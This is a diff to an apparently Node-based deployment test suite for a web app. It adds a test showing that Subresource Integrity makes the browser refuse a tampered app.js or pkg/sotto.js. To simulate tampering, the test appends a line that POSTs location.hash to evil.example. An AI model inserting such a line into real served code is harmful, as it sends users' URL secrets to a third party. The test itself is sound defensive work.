@@ -10,6 +10,8 @@
 //    SHA256SUMS (scripts/build-hashes.mjs); a recording proxy that alters one served file
 //    (app.js, pkg/sotto.js or one byte of a wasm module) is reported, naming the file, with a
 //    non-zero exit.
+// 3. Subresource Integrity in the deployable page: a static host that changes app.js or
+//    pkg/sotto.js but not index.html gets its code refused by the browser itself.
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { execFile } from 'node:child_process';
@@ -29,6 +31,8 @@ import { dumpOnFailure, firstRemote, mediaStats } from './lib/probes.mjs';
 const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
 const tmp = mkdtempSync(path.join(tmpdir(), 'sotto-deployment-'));
 const sameOriginDist = path.join(tmp, 'same-origin');
+// One copy of the package for the whole run: other builds may rewrite client-wasm/pkg meanwhile.
+const packageDir = path.join(tmp, 'pkg');
 const releaseDir = path.join(tmp, 'release');
 const splitDist = path.join(releaseDir, 'www'); // the release's page, built for the split deployment
 let sameOriginFiles; // the files of the single-origin build
@@ -42,7 +46,7 @@ let browser;
 /** Runs verify-deployment.mjs against `url` (with `args`); resolves `{ code, out }`. */
 function verify(url, ...args) {
   return new Promise((resolve) => {
-    execFile(process.execPath, [path.join(root, 'scripts/verify-deployment.mjs'), url, ...args], { cwd: root, timeout: 60_000 }, (error, stdout, stderr) => {
+    execFile(process.execPath, [path.join(root, 'scripts/verify-deployment.mjs'), url, '--package', packageDir, ...args], { cwd: root, timeout: 60_000 }, (error, stdout, stderr) => {
       resolve({ code: error ? error.code : 0, out: `${stdout}${stderr}` });
     });
   });
@@ -51,10 +55,11 @@ function verify(url, ...args) {
 const linesOf = (out, kind) => out.split('\n').filter((l) => l.startsWith(kind));
 
 before(async () => {
-  sameOriginFiles = buildWww({ out: sameOriginDist });
+  cpSync(path.join(root, 'client-wasm/pkg'), packageDir, { recursive: true });
+  sameOriginFiles = buildWww({ out: sameOriginDist, packageDir });
   const workerPort = await freePort();
   const staticPort = await freePort();
-  buildRelease({ out: releaseDir, signalingUrl: `ws://127.0.0.1:${workerPort}` });
+  buildRelease({ out: releaseDir, signalingUrl: `ws://127.0.0.1:${workerPort}`, packageDir });
   staticHost = await startStaticServer({ root: splitDist, port: staticPort });
   strangerHost = await startStaticServer({ root: splitDist });
   pageWorker = await startWorker({ assets: sameOriginDist });
@@ -134,6 +139,39 @@ test('the same page from an origin ALLOWED_ORIGINS does not list is refused', as
     assert.equal(outcome, 'blocked: TypeError');
   } finally {
     await p.context.close();
+  }
+});
+
+test('Subresource Integrity: the browser refuses app.js or pkg/sotto.js a server changed behind an unchanged page', async () => {
+  const html = readFileSync(path.join(splitDist, 'index.html'), 'utf8');
+  assert.match(html, /<script type="importmap">\{"integrity":\{[^<]*"\.\/pkg\/sotto\.js":"sha384-/);
+  assert.match(html, /<script type="module" src="app\.js" integrity="sha384-[A-Za-z0-9+/=]{64}"><\/script>/);
+  // The app fills in the room link as soon as its modules run.
+  const started = async (origin, label) => {
+    const p = await openParticipant(browser, `${origin}/`, { label, join: false });
+    try {
+      const link = await waitInPage(p.page, () => document.querySelector('#room-link').value, (v) => v !== '', { timeoutMs: 5_000 });
+      return { ran: link !== '', console: p.console };
+    } finally {
+      await p.context.close();
+    }
+  };
+  const control = await started(staticHost.origin, 'intact');
+  assert.ok(control.ran, `the intact page runs: ${control.console.join('\n')}`);
+  assert.deepEqual(control.console.filter((l) => /integrity|Content Security Policy/i.test(l)), []);
+  for (const file of ['pkg/sotto.js', 'app.js']) {
+    const altered = path.join(tmp, `sri-${path.basename(file)}`);
+    cpSync(splitDist, altered, { recursive: true });
+    writeFileSync(path.join(altered, file), `${readFileSync(path.join(altered, file), 'utf8')}\nfetch('https://evil.example/', { method: 'POST', body: location.hash });\n`);
+    const host = await startStaticServer({ root: altered });
+    try {
+      const result = await started(host.origin, `altered ${file}`);
+      assert.equal(result.ran, false, `the page ran with an altered ${file}`);
+      assert.ok(host.requests.includes(`/${file}`), host.requests.join(' '));
+      assert.ok(result.console.some((l) => /integrity/i.test(l) && l.includes(path.basename(file))), `the browser names ${file}:\n${result.console.join('\n')}`);
+    } finally {
+      await host.stop();
+    }
   }
 });
 
